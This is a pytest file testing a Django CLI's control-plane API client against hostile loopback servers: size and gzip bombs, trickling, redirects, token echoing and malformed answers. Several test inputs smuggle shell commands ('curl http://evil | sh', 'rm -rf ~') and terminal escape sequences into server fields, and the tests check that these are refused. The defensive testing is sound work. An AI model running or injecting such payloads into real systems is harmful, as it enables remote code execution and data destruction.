"""The attach command's API client (``attach.api_client``) and the steps that use it, against control planes
that do not behave: huge, trickling, redirecting, HTML or non-object answers, lying ``/me`` answers, servers that echo
the token back. Every server here is a real HTTP server on loopback; nothing of gShare is replaced."""

from __future__ import annotations

import gzip
import http.server
import io
import json
import logging
import os
import socket
import threading
import time
from collections.abc import Callable

import pytest
from django.core.management import CommandError, call_command

from attach.api_client import MAX_ANSWER_BYTES, ControlPlaneClient, ControlPlaneError
from attach.run import Attach, AttachOptions, AttachStopped
from attach.steps import connection, reach, register

pytestmark = pytest.mark.timeout(60)

TOKEN = "gsh_0123abcd_" + "S3cr3t-" * 6  # the shape of a real API token (identity.tokens)
VERSION = {"version": "0.2.0", "api": "v1", "operator_contract": "v1alpha1"}
STAFF = {"username": "admin", "is_staff": True}


class Hostile:
    """A loopback HTTP server whose every request is answered by ``answer(handler)``; records what it was sent.

    ``answer`` writes the raw answer itself (``handler.wfile``), so it may trickle, lie about lengths or never end.
    """

    def __init__(self, answer: Callable[[http.server.BaseHTTPRequestHandler], None]):
        self.seen: list[tuple[str, str, dict]] = []
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _any(self):
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                outer.seen.append((self.command, self.path, dict(self.headers)))
                try:
                    answer(self)
                except OSError:  # the client hung up: what a cut-off looks like from here
                    pass
                self.close_connection = True

            do_GET = do_POST = do_PATCH = _any  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(autouse=True)
def _kubeconfig_allowed(settings):
    """The kubeconfig of these tests names https://127.0.0.1:1 (nothing listens: every test stops before the cluster)."""
    settings.GSHARE_LOOPBACK_ALLOWLIST = [*settings.GSHARE_LOOPBACK_ALLOWLIST, "127.0.0.1:1"]


@pytest.fixture
def hostile():
    started: list[Hostile] = []

    def start(answer):
        server = Hostile(answer)
        started.append(server)
        return server

    yield start
    for server in started:
        server.close()


def send(handler, status: int, body: bytes | str | object, *, content_type="application/json", headers=None):
    if not isinstance(body, bytes | str):
        body = json.dumps(body)
    data = body.encode() if isinstance(body, str) else body
    handler.send_response(status)
    handler.send_header("Content-Type", content_type)
    handler.send_header("Content-Length", str(len(data)))
    for key, value in (headers or {}).items():
        handler.send_header(key, value)
    handler.end_headers()
    handler.wfile.write(data)


def routes(table: dict[str, object], *, default=None):
    """An ``answer`` that serves JSON by the path's first segment after ``/api/v1/`` (``version``, ``me``, ``clusters``,
    ...): a value is sent with 200, a ``(status, body)`` pair as given, a callable is called with the handler."""
    def answer(handler):
        path = handler.path.split("?", 1)[0].removeprefix("/api/v1/")
        key = next((k for k in sorted(table, key=len, reverse=True) if path == k or path.startswith(k + "/") or
                    (handler.command + " " + path).startswith(k)), None)
        value = table.get(key, default) if key else default
        if callable(value):
            value(handler)
        elif isinstance(value, tuple):
            send(handler, value[0], value[1])
        else:
            send(handler, 200, value)
    return answer


def client(url, **kwargs) -> ControlPlaneClient:
    return ControlPlaneClient(url, TOKEN, **{"timeout": 1.0, "long_timeout": 1.0, **kwargs})


# ----------------------------------------------------------------- size and time


def test_a_100_mb_answer_is_cut_at_the_limit_without_reading_it_all(hostile):
    sent = []

    def huge(handler):
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", str(100 * 1024 * 1024))
        handler.end_headers()
        chunk = b" " * 65536
        for _ in range(1600):
            handler.wfile.write(chunk)
            sent.append(len(chunk))

    server = hostile(huge)
    with client(server.url) as api, pytest.raises(ControlPlaneError, match="answered more than 1024 KiB"):
        api.version()
    assert sum(sent) < 100 * 1024 * 1024  # cut while the server was still sending, not read to the end


def test_a_gzip_bomb_is_cut_at_the_limit_after_decoding(hostile):
    bomb = gzip.compress(b" " * (100 * 1024 * 1024), compresslevel=9)  # ~100 KiB on the wire

    def answer(handler):
        send(handler, 200, bomb, headers={"Content-Encoding": "gzip"})

    server = hostile(answer)
    with client(server.url) as api, pytest.raises(ControlPlaneError, match="answered more than 1024 KiB"):
        api.version()
    assert MAX_ANSWER_BYTES == 1024 * 1024


def _drip(handler, *, head: bytes, every: float = 0.2, seconds: float = 12.0):
    """Write ``head`` a byte at a time, then the body a byte at a time, each byte well within the read timeout."""
    until = time.monotonic() + seconds
    for byte in head:
        handler.wfile.write(bytes([byte]))
        handler.wfile.flush()
        time.sleep(every / 10)
    while time.monotonic() < until:
        handler.wfile.write(b" ")
        handler.wfile.flush()
        time.sleep(every)


@pytest.mark.parametrize("where", ["body", "headers"])
def test_a_trickling_server_is_cut_off_by_a_whole_call_deadline(hostile, where):
    """Each byte comes within the read timeout (1 s), so only a deadline on the whole call stops it."""
    if where == "body":
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 999999\r\n\r\n"

        def answer(handler):
            if handler.path.endswith("/me"):
                send(handler, 200, STAFF)
                return
            handler.wfile.write(head)
            _drip(handler, head=b"")
    else:
        def answer(handler):
            _drip(handler, head=b"HTTP/1.1 200 OK\r\nX-Padding: " + b"a" * 400, every=0.2)

    server = hostile(answer)
    with client(server.url, timeout=1.0) as api:
        if where == "body":
            assert api.me() == STAFF  # a call before: the next one is still bounded (the pools made again are guarded)
        # The whole-call deadline's own error (a read timeout would never fire: each byte comes within it).
        with pytest.raises(ControlPlaneError, match="did not answer within 1 s"):
            api.version()


# ----------------------------------------------------------------- redirects and foreign answers


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_to_another_host_is_not_followed_and_the_token_stays_here(hostile, status):
    elsewhere = hostile(routes({"version": VERSION}))
    other_host = elsewhere.url.replace("127.0.0.1", "localhost")

    def answer(handler):
        send(handler, status, "", headers={"Location": f"{other_host}/api/v1/version?token={TOKEN}"})

    server = hostile(answer)
    with client(server.url) as api, pytest.raises(ControlPlaneError) as caught:
        api.version()
    assert caught.value.status == status and "redirected" in caught.value.detail
    assert TOKEN not in str(caught.value) and TOKEN.split("_", 2)[2] not in str(caught.value)
    assert elsewhere.seen == []
    assert server.seen[0][2].get("Authorization") == f"Bearer {TOKEN}"


def test_an_html_page_with_200_is_not_gshare(hostile):
    server = hostile(lambda h: send(h, 200, "<html><body>Welcome to nginx!</body></html>", content_type="text/html"))
    with client(server.url) as api, pytest.raises(ControlPlaneError, match="HTTP 200 with text/html, not gShare's API"):
        api.me()


@pytest.mark.parametrize("body", [b"[" * 100000, b'{"a":' * 50000, b"1" * 5000, b'{"version": NaN}', b"\xff\xfe{}"])
@pytest.mark.parametrize("status", [200, 401])
def test_json_that_python_cannot_decode_is_not_gshare(hostile, body, status):
    """Nesting past Python's recursion limit raises RecursionError in json.loads, not ValueError."""
    server = hostile(lambda h: send(h, status, body))
    with client(server.url) as api, pytest.raises(ControlPlaneError, match="not gShare's API"):
        api.version()


def test_proxies_from_the_environment_are_not_used(hostile, monkeypatch):
    proxy = hostile(lambda h: send(h, 200, VERSION))
    server = hostile(routes({"version": VERSION}))
    monkeypatch.setenv("HTTP_PROXY", proxy.url)
    monkeypatch.setenv("http_proxy", proxy.url)
    monkeypatch.setenv("NO_PROXY", "")
    with client(server.url) as api:
        assert api.version() == VERSION
    assert proxy.seen == [] and len(server.seen) == 1


@pytest.mark.parametrize("body", [[VERSION], "0.2.0", 7, True])
@pytest.mark.parametrize("route", ["version", "me", "cluster", "register", "update", "operator_token_push", "connection_test"])
def test_json_that_is_not_an_object_is_refused_by_every_route(hostile, route, body):
    server = hostile(lambda h: send(h, 200, body))
    calls = {"version": lambda api: api.version(), "me": lambda api: api.me(), "cluster": lambda api: api.cluster("clu_x"),
             "register": lambda api: api.register({"name": "lab-c1"}), "update": lambda api: api.update("clu_x", {}),
             "operator_token_push": lambda api: api.operator_token_push("clu_x"),
             "connection_test": lambda api: api.connection_test("clu_x")}
    with client(server.url) as api, pytest.raises(ControlPlaneError, match="not gShare's API"):
        calls[route](api)


@pytest.mark.parametrize("body", [{}, {"id": 5, "name": "lab-c1"}, {"name": "lab-c1"}, {"id": "clu_x"}])
@pytest.mark.parametrize("route", ["cluster", "register", "update"])
def test_a_cluster_without_its_id_and_name_is_refused(hostile, route, body):
    server = hostile(lambda h: send(h, 200 if route != "register" else 201, body))
    with client(server.url) as api, pytest.raises(ControlPlaneError, match="not gShare's API"):
        {"cluster": lambda: api.cluster("clu_x"), "register": lambda: api.register({}), "update": lambda: api.update("clu_x", {})}[route]()


@pytest.mark.parametrize("page", [None, [], ["lab-c1"], {"results": "lab-c1"}, {"results": [None, 3]}, {"results": [{"name": "lab-c1"}]},
                                  {"results": {"name": "lab-c1"}}])
def test_a_cluster_list_of_the_wrong_shape_is_refused(hostile, page):
    server = hostile(lambda h: send(h, 200, page if page is not None else "null"))
    with client(server.url) as api, pytest.raises(ControlPlaneError, match="not gShare's API"):
        api.cluster_named("lab-c1")


def test_a_well_formed_cluster_list_is_read(hostile):
    rows = [{"id": "clu_old", "name": "lab-c1", "status": "deregistered"}, {"id": "clu_b", "name": "lab-c10", "status": "connected"},
            {"id": "clu_a", "name": "lab-c1", "status": "connected"}]
    server = hostile(lambda h: send(h, 200, {"count": 3, "results": rows}))
    with client(server.url) as api:
        assert api.cluster_named("lab-c1")["id"] == "clu_a"
        assert api.cluster_named("lab-c2") is None
    assert "name=lab-c1" in server.seen[0][1]


# ----------------------------------------------------------------- the steps against a lying control plane


def _attach(url: str, token: str = TOKEN, **state) -> Attach:
    attach = Attach(AttachOptions(kubeconfig_path="/nonexistent", name="lab-c1", control_plane_url=url, session_domain="lab-c1.example.org",
                                  ingress_node="n1", api_token=token, argv=("attach",)), echo=lambda line: None)
    for key, value in state.items():
        setattr(attach.state, key, value)
    return attach


@pytest.mark.parametrize(("me", "refused"), [
    ({"username": "mallory", "is_staff": "yes"}, "not a staff user"),
    ({"username": "mallory", "is_staff": 1}, "not a staff user"),
    ({"username": "mallory", "is_staff": "false"}, "not a staff user"),
    ({"username": "mallory"}, "not a staff user"),
    ({"is_staff": True}, "not as gShare's API"),
    ({"username": ["admin"], "is_staff": True}, "not as gShare's API"),
    ({"username": "admin\x1b]0;owned\x07\x1b[2J", "is_staff": True}, "not as gShare's API"),
])
def test_me_must_say_is_staff_true_in_so_many_words(settings, hostile, me, refused):
    server = hostile(routes({"version": VERSION, "me": me}))
    with pytest.raises(AttachStopped, match=refused):
        reach.check_control_plane(_attach(server.url))


@pytest.mark.parametrize("version", [{}, {"version": "0.2.0"}, {"version": None, "operator_contract": "v1alpha1"},
                                     {"version": "0.2; curl http://evil | sh", "operator_contract": "v1alpha1"}])
def test_a_version_answer_without_a_release_number_is_refused_without_a_command_built_from_it(settings, hostile, version):
    server = hostile(routes({"version": version, "me": STAFF}))
    with pytest.raises(AttachStopped) as stop:
        reach.check_control_plane(_attach(server.url))
    assert "evil" not in stop.value.fix and "git checkout v?" not in stop.value.fix


def test_the_checks_pass_against_a_well_behaved_control_plane(settings, hostile):
    server = hostile(routes({"version": VERSION, "me": STAFF}))
    assert reach.check_control_plane(_attach(server.url)) == f"gShare 0.2.0 at {server.url} as admin"


@pytest.mark.parametrize("answers", [
    {"clusters": {"results": [{"id": "clu_a", "name": "lab-c1", "status": "connected", "apiserver_url": "https://k"}]},
     "PATCH clusters": (200, ["not", "a", "cluster"])},
    {"clusters": {"results": [{"name": "lab-c1", "status": "connected"}]}},
    {"GET clusters": {"results": []}, "POST clusters": (201, {"name": "lab-c1"})},
    {"GET clusters": {"results": []}, "POST clusters": (409, {"code": "cluster_already_registered", "detail": "taken", "cluster": "clu_a"}),
     "GET clusters/clu_a": ["a list"]},
    {"GET clusters": {"results": []}, "POST clusters": (409, {"code": "cluster_already_registered", "detail": "taken", "cluster": "clu_a"}),
     "GET clusters/clu_a": {"id": "clu_a"}},
    {"GET clusters": {"results": []}, "POST clusters": (409, {"code": "cluster_has_live_sessions", "detail": "busy", "sessions": {"a": 1}})},
    {"GET clusters": {"results": []}, "POST clusters": (409, {"code": "cluster_has_live_sessions", "detail": "busy", "sessions": [1, None]})},
])
def test_step_register_stops_with_a_fix_on_any_answer_shape(settings, hostile, answers):
    server = hostile(routes(answers))
    attach = _attach(server.url, server="https://k", kube_system_uid="", kubeconfig="apiVersion: v1")
    with pytest.raises(AttachStopped) as stop:
        attach.guarded(register.run)
    assert stop.value.fix.endswith("then re-run: attach")


@pytest.mark.parametrize("route", ["operator-token/push", "connection-test"])
def test_steps_7_and_9_stop_with_a_fix_on_a_list_answer(settings, hostile, route, tmp_path):
    server = hostile(routes({f"POST clusters/clu_a/{route}": (200, ["x"]), "GET clusters/clu_a": {"id": "clu_a", "name": "lab-c1"}}))
    attach = _attach(server.url, cluster={"id": "clu_a", "name": "lab-c1"})
    with client(server.url) as api, pytest.raises(ControlPlaneError, match="not gShare's API"):
        (api.operator_token_push if route == "operator-token/push" else api.connection_test)("clu_a")
    if route == "connection-test":
        with pytest.raises(AttachStopped, match="not gShare's API"):
            attach.guarded(connection.run)


# ----------------------------------------------------------------- the token never shows


def _echoing(status: int):
    """A control plane that puts the token it was sent into every field of its error answer (and a header)."""
    def answer(handler):
        sent = handler.headers.get("Authorization", "").removeprefix("Bearer ")
        secret = sent.split("_", 2)[-1]
        send(handler, status, {"code": "not_authenticated" if status == 401 else "cluster_already_registered",
                               "detail": f"token {sent} is bad (secret {secret})", "cluster": sent, "sessions": [sent]},
             headers={"WWW-Authenticate": f"Bearer {sent}"})
    return answer


@pytest.mark.parametrize("status", [401, 403, 409, 500])
def test_an_error_that_echoes_the_token_never_shows_it(hostile, status, caplog):
    server = hostile(_echoing(status))
    caplog.set_level(logging.DEBUG)
    with client(server.url) as api, pytest.raises(ControlPlaneError) as caught:
        api.version()
    shown = " ".join([str(caught.value), caught.value.detail, repr(caught.value.extra), caplog.text])
    assert TOKEN not in shown and TOKEN.split("_", 2)[2] not in shown
    assert caught.value.status == status


def test_the_command_never_prints_the_token_even_when_the_control_plane_echoes_it(settings, hostile, tmp_path, monkeypatch, caplog, capfd):
    server = hostile(_echoing(401))
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text(_kubeconfig())
    token_file = tmp_path / "token"
    token_file.write_text(TOKEN + "\r\n")
    caplog.set_level(logging.DEBUG)
    out, err = io.StringIO(), io.StringIO()
    with pytest.raises(CommandError) as caught:
        call_command("attach_cluster", "--kubeconfig", str(kubeconfig), "--name", "lab-c1", "--control-plane", server.url,
                     "--session-domain", "lab-c1.example.org", "--ingress-node", "n1", "--token-file", str(token_file),
                     stdout=out, stderr=err)
    captured = capfd.readouterr()
    shown = " ".join([out.getvalue(), err.getvalue(), str(caught.value), caplog.text, captured.out, captured.err])
    assert "refused the API token" in shown
    assert TOKEN not in shown and TOKEN.split("_", 2)[2] not in shown
    assert server.seen and server.seen[0][2]["Authorization"] == f"Bearer {TOKEN}"  # the CRLF was not sent


def _kubeconfig() -> str:
    return json.dumps({
        "apiVersion": "v1", "kind": "Config", "current-context": "c",
        "clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:1", "insecure-skip-tls-verify": True}}],
        "users": [{"name": "u", "user": {"token": "kube-token"}}],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
    })


# ----------------------------------------------------------------- the token file


@pytest.mark.parametrize(("content", "message"), [
    (None, "cannot read --token-file"),
    ("dir", "is not a regular file"),
    ("fifo", "is not a regular file"),  # a FIFO without a writer would block the attach
    (b"x" * 5000, "larger than 4096 bytes"),
    (b"", "no API token"),
    (b"\n\n  \n", "no API token"),
    (b"\xff\xfe\x00gsh_\x01", "not an API token"),
    ("gsh_0123abcd_caf\u00e9".encode(), "not an API token"),
    (b"gsh_0123abcd_abc def", "not an API token"),
])
def test_unusable_token_files_stop_before_any_request(settings, hostile, tmp_path, content, message):
    server = hostile(routes({"version": VERSION, "me": STAFF}))
    path = tmp_path / "token"
    if content == "dir":
        path.mkdir()
    elif content == "fifo":
        os.mkfifo(path)
    elif content is not None:
        path.write_bytes(content)
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text(_kubeconfig())
    out, err = io.StringIO(), io.StringIO()
    with pytest.raises(CommandError) as caught:
        call_command("attach_cluster", "--kubeconfig", str(kubeconfig), "--name", "lab-c1", "--control-plane", server.url,
                     "--session-domain", "lab-c1.example.org", "--ingress-node", "n1", "--token-file", str(path), stdout=out, stderr=err)
    assert message in str(caught.value) + out.getvalue() + err.getvalue()
    assert server.seen == []
    if isinstance(content, bytes) and content:
        assert content.decode(errors="replace") not in str(caught.value) + out.getvalue() + err.getvalue()


@pytest.mark.parametrize("value", ["gsh_0123abcd_abc\ndef", "gsh_0123abcd_abc\x7f", "gsh_0123abcd_ab\u2028c"])
def test_an_unusable_token_in_the_environment_stops_before_any_request(settings, hostile, tmp_path, monkeypatch, value):
    server = hostile(routes({"version": VERSION, "me": STAFF}))
    monkeypatch.setenv("GSHARE_API_TOKEN", value)
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text(_kubeconfig())
    with pytest.raises(CommandError, match="not an API token"):
        call_command("attach_cluster", "--kubeconfig", str(kubeconfig), "--name", "lab-c1", "--control-plane", server.url,
                     "--session-domain", "lab-c1.example.org", "--ingress-node", "n1", stdout=io.StringIO(), stderr=io.StringIO())
    assert server.seen == []


def test_a_token_with_trailing_spaces_and_crlf_is_sent_trimmed(hostile, tmp_path):
    from clusters.management.commands.attach_cluster import Command

    path = tmp_path / "token"
    path.write_bytes(f"  {TOKEN}  \r\n# a comment\r\n".encode())
    assert Command._token(str(path)) == TOKEN


def test_a_closed_port_is_unreachable_not_a_traceback():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()
    with client(f"http://127.0.0.1:{port}") as api, pytest.raises(ControlPlaneError, match="connection refused"):
        api.version()


@pytest.mark.parametrize(("flag", "value", "problem"), [
    ("--control-plane", "https://admin:hunter2-password@gshare.example.org", "user name or password"),
    ("--api-url", "http://{host}@127.0.0.1:9", "user name or password"),
    ("--api-url", "{url}/?x=", "query or fragment"),
    ("--api-url", "{url}#frag", "query or fragment"),
    ("--api-url", "ftp://127.0.0.1/", "scheme http or https"),
    ("--api-url", "http://127.0.0.1:99999999", "cannot be parsed"),
    ("--control-plane", "http://[::1", "cannot be parsed"),
])
def test_urls_with_credentials_queries_or_no_host_are_refused_before_any_request(settings, hostile, tmp_path, flag, value, problem):
    """``requests`` would send a URL's user:password as Basic auth instead of the bearer token (and print the password)."""
    server = hostile(routes({"version": VERSION, "me": STAFF}))
    value = value.format(url=server.url, host=server.url.removeprefix("http://"))
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text(_kubeconfig())
    args = {"--kubeconfig": str(kubeconfig), "--name": "lab-c1", "--control-plane": server.url, "--session-domain": "lab-c1.example.org",
            "--ingress-node": "n1", flag: value}
    out, err = io.StringIO(), io.StringIO()
    import os

    os.environ["GSHARE_API_TOKEN"] = TOKEN
    try:
        with pytest.raises(CommandError) as caught:
            call_command("attach_cluster", *[part for item in args.items() for part in item], stdout=out, stderr=err)
    finally:
        del os.environ["GSHARE_API_TOKEN"]
    assert problem in str(caught.value) and "is not an http(s) URL" in str(caught.value)
    assert "hunter2" not in out.getvalue() + err.getvalue() + str(caught.value)
    assert server.seen == []


def test_a_control_plane_with_a_private_ca_is_verified_against_requests_ca_bundle(fleet_cluster, tmp_path, monkeypatch):
    """The client ignores the environment's proxies (trust_env off), but not the CA an operator points it at."""
    emulated = fleet_cluster("lab-c1", tls=True)  # an HTTPS server whose certificate only its own CA verifies
    monkeypatch.delenv("REQUESTS_CA_BUNDLE", raising=False)
    monkeypatch.delenv("SSL_CERT_FILE", raising=False)
    with client(emulated.url, timeout=5.0) as api, pytest.raises(ControlPlaneError, match="its certificate does not verify"):
        api.version()
    bundle = tmp_path / "ca.pem"
    bundle.write_bytes(emulated.ca_pem)
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(bundle))
    with client(emulated.url, timeout=5.0) as api, pytest.raises(ControlPlaneError) as caught:
        api.version()  # TLS passes; the emulator is not gShare (it refuses the token, or has no such path)
    assert caught.value.status in (401, 403, 404), caught.value.detail


def test_terminal_escapes_in_an_error_answer_are_not_printed(hostile):
    server = hostile(lambda h: send(h, 409, {"code": "name_taken\x1b[31m", "detail": "taken\x1b]0;owned\x07\x1b[2J\r", "cluster": "\x1bc"},
                                    ))
    with client(server.url) as api, pytest.raises(ControlPlaneError) as caught:
        api.register({})
    shown = caught.value.detail + caught.value.code + repr(caught.value.extra)
    assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown
    assert caught.value.detail.startswith("taken?]0;owned?")


def test_a_server_that_closes_each_connection_without_saying_so_answers_every_call(hostile):
    """Hostile closes the connection after each answer without ``Connection: close``; a pooled connection reused as the
    server closes it failed the call (RemoteDisconnected). The client asks for one connection per call."""
    server = hostile(routes({"version": VERSION, "me": STAFF}))
    with client(server.url) as api:
        for _ in range(30):
            assert api.version() == VERSION and api.me() == STAFF
    assert all(headers.get("Connection") == "close" for _, _, headers in server.seen)


@pytest.mark.parametrize("layout", [{"operator_namespace": "x; curl http://evil | sh"}, {"session_namespace": ["a"]},
                                    {"volume_move_enabled": "true; rm -rf ~"}, {"operator_token_secret": "A" * 300}])
def test_a_cluster_layout_that_is_not_kubernetes_names_builds_no_command(settings, hostile, layout):
    server = hostile(routes({"version": {**VERSION, "cluster_layout": layout}, "me": STAFF}))
    with pytest.raises(AttachStopped) as stop:
        reach.check_control_plane(_attach(server.url))
    assert "not gShare's" in stop.value.problem
    assert "evil" not in stop.value.fix and "rm -rf" not in stop.value.fix and "AAAA" not in stop.value.fix
